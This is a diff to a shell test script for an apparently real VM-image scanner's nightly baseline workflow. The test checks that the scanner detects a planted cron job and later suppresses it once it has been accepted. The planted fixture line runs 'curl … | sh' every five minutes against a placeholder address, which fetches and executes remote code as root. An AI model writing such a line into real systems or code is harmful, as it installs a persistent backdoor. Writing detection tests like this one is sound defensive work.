@@ -8,11 +8,14 @@
 #   night 1, no baseline: a dated database, html and summary report per
 #     image, each database's scan complete (sqlite3); exit 0 (nothing at
 #     medium or above in the scans);
-#   a person approves night 1 (cp, as vmscan(1) says); night 2, one
-#     image rebuilt with a planted cron job: its diff names the cron file
-#     and only it among the files (against the two trees' difference),
-#     the other image's diff is empty, the SARIF has a "new" result,
-#     exit 1; approved.db is untouched.
+#   a person approves night 1 (vmscan baseline accept, as vmscan(1)
+#     says); night 2, one image rebuilt with a planted cron job: its diff
+#     names the cron file and only it among the files (against the two
+#     trees' difference), the other image's diff is empty, the SARIF has
+#     a "new" result, the scan marked the cron job's findings new and
+#     only them, exit 1; approved.db is untouched;
+#   night 3, the cron job accepted in accepted.txt (with a reason): exit
+#     0, its findings suppressed.
 # Needs root (vmscan reads the images it is given as any user, but the
 # trees keep root's owners), mke2fs, sqlite3, python3.
 set -u
@@ -28,7 +31,7 @@ require_cmd mke2fs sqlite3 python3 sha256sum
 setup_work
 cd "$work" || bail_out "cannot enter $work"
 
-plan 9
+plan 11
 
 # The units, as installed (ExecStart at the script's installed path).
 if command -v systemd-analyze > /dev/null 2>&1; then
@@ -94,7 +97,9 @@ ok "$(grep -q 'no approved.db yet' night1.out; echo $?)" \
 
 # Approved on purpose; night 2 with web01 rebuilt.
 for n in web01.raw db01.raw; do
-  cp "out/$n/night1.db" "out/$n/approved.db"
+  "$VMSCAN" baseline accept "out/$n/night1.db" -o "out/$n/approved.db" \
+    --reason "night 1 reviewed" 2> /dev/null \
+    || bail_out "baseline accept of $n failed"
 done
 sum_approved=$(sha256sum out/*/approved.db)
 printf '*/5 * * * * root curl -s http://203.0.113.9/x | sh\n' \
@@ -118,6 +123,20 @@ r = json.load(open(sys.argv[1]))["runs"][0]["results"]
 sys.exit(0 if any(x["baselineState"] == "new" for x in r) else 1)' \
   out/web01.raw/night2.diff.sarif; echo $?)" \
   "night 2: web01's SARIF has a result whose baselineState is new"
+is "$(sqlite3 out/web01.raw/night2.db "SELECT DISTINCT path FROM findings \
+  WHERE baseline = 'new'"):$(sqlite3 out/db01.raw/night2.db "SELECT count (*) \
+  FROM findings WHERE baseline = 'new'")" "/etc/cron.d/sync:0" \
+  "night 2: the scans, against approved.db, found the cron job new and nothing else"
+
+# Night 3: the cron job reviewed and accepted.
+printf 'check=* path=/etc/cron.d/sync reason="the sync job, reviewed" expires=2999-01-01\n' \
+  > out/web01.raw/accepted.txt
+VMSCAN_OPTS="--data-path host" VMSCAN_NIGHTLY_STAMP=night3 VMSCAN=$VMSCAN \
+  "$contrib/vmscan-nightly" images out > night3.out 2> night3.err
+rc=$?
+is "$rc:$(sqlite3 out/web01.raw/night3.db "SELECT count (*) FROM findings \
+  WHERE baseline = 'new' AND suppression_id IS NULL")" "0:0" \
+  "night 3: the cron job accepted in accepted.txt, exit 0"
 is "$(sha256sum out/*/approved.db)" "$sum_approved" \
   "the baselines were not touched"
 test_done
